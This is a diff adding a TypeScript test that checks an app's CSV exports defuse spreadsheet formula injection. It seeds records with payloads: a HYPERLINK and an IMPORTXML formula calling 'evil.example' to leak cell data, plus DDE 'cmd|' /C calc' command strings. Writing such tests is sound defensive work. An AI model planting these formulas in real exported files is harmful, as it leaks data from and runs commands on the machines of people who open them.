@@ -1,0 +1,121 @@
+import { eq } from 'drizzle-orm';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { companies, locations, users } from '../../db/schema.ts';
+import { addCraftRecord, createSiteFixture, PASSWORD } from '../fixtures.ts';
+import { startTestApp, type TestApp, type TestClient } from '../harness.ts';
+import { procedurePaths } from './router-paths.ts';
+
+/**
+ * Content safety of the exports (OWASP "CSV Injection"): text people typed (titles,
+ * descriptions, work orders, names of places, companies and people) is written so that no
+ * spreadsheet reads a cell as a formula. Every export procedure of the router is called here;
+ * a new one fails the first test until it is added, and then meets the same cells.
+ */
+
+const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
+const FORMULAS = {
+  recordTitle: HYPERLINK,
+  recordDescription: "+cmd|' /C calc'!A0",
+  taskTitle: `@SUM(1+1)*cmd|' /C calc'!A0`,
+  taskDescription: "-2+3+cmd|' /C calc'!A0",
+  workOrder: '=1+1',
+  location: '\t=1+1',
+  company: '\r=1+1',
+  creator: '=IMPORTXML("http://evil.example","//a")',
+};
+
+/** Input each export is called with: every row of the site (the deleted lists: every deleted one). */
+const EXPORTS: Record<string, unknown> = {
+  'craftRecords.exportCsv': { status: 'open', craftType: null },
+  'craftRecords.exportDeletedCsv': { craftType: null },
+  'tasks.exportCsv': { taskParam: 'All', craftType: null },
+  'tasks.exportDeletedCsv': { craftType: null },
+};
+
+/** RFC 4180 fields of one document (quoted fields, doubled quotes, CRLF). */
+function csvCells(text: string): string[] {
+  const cells: string[] = [];
+  let field = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else field += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',' || c === '\r' || c === '\n') {
+      if (c === '\r' && text[i + 1] === '\n') i++;
+      cells.push(field);
+      field = '';
+    } else field += c;
+  }
+  return cells;
+}
+
+const FORMULA_START = /^[=+\-@\t\r\n]/;
+const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;
+
+let t: TestApp;
+let admin: TestClient;
+beforeAll(async () => {
+  t = await startTestApp();
+  const site = await createSiteFixture(t.db, 'CSVSAFE');
+  await t.db
+    .update(locations)
+    .set({ title: FORMULAS.location })
+    .where(eq(locations.id, site.locationIds[0]!));
+  await t.db
+    .update(companies)
+    .set({ name: FORMULAS.company })
+    .where(eq(companies.id, site.companyA));
+  await t.db.update(users).set({ name: FORMULAS.creator }).where(eq(users.id, site.users.plant.id));
+  const record = {
+    title: FORMULAS.recordTitle,
+    description: FORMULAS.recordDescription,
+  };
+  const task = {
+    taskStatus: 30,
+    title: FORMULAS.taskTitle,
+    description: FORMULAS.taskDescription,
+    workOrder: FORMULAS.workOrder,
+  };
+  const deleted = { deletedAt: new Date(), deletedBy: site.users.admin.id };
+  await addCraftRecord(t.db, site, record, [task, { ...task, ...deleted }]);
+  await addCraftRecord(t.db, site, { ...record, ...deleted }, [task]);
+  admin = await t.signIn(site.users.admin.email, PASSWORD);
+});
+afterAll(() => t.close());
+
+describe('CSV exports', () => {
+  it('checks every export procedure of the router', () => {
+    const exports = procedurePaths().filter((path) => /csv|export/i.test(path));
+    expect(exports.sort()).toEqual(Object.keys(EXPORTS).sort());
+  });
+
+  it.each(Object.entries(EXPORTS))(
+    '%s writes no cell a spreadsheet reads as a formula',
+    async (path, input) => {
+      const procedure = path
+        .split('.')
+        .reduce<unknown>((node, key) => (node as Record<string, unknown>)[key], admin.rpc);
+      const exported = procedure as (i: unknown) => Promise<{ csv: string; rows: number }>;
+      const { csv, rows } = await exported(input);
+      expect(rows).toBeGreaterThan(0);
+      const cells = csvCells(csv);
+      const formulas = cells.filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell));
+      expect(formulas).toEqual([]);
+      // The text itself is kept, behind the quote that spreadsheet programs hide.
+      expect(cells).toContain(`'${path.startsWith('tasks') ? FORMULAS.taskTitle : HYPERLINK}`);
+    },
+  );
+
+  it('keeps every planted text, neutralised, in the task export', async () => {
+    const { csv } = await admin.rpc.tasks.exportCsv({ taskParam: 'All', craftType: null });
+    const cells = csvCells(csv);
+    for (const text of Object.values(FORMULAS).filter((f) => f !== FORMULAS.recordDescription))
+      expect(cells).toContain(`'${text}`);
+  });
+});
